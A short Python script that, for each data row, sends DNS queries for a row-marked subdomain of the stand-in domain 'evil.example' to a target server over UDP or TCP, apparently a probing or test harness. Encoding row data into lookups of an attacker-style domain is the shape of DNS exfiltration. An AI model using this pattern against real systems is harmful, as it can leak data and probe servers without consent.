from rows import connect, each, mark, question, talk, udp


def ask(row, transport, server):
    query = question([mark(row) + "x", "evil", "example"])
    if transport == "udp":
        udp(server, 53, query)
    else:
        talk(connect(server, 53), bytes([0, len(query)]) + query, 0.2)


each(ask)
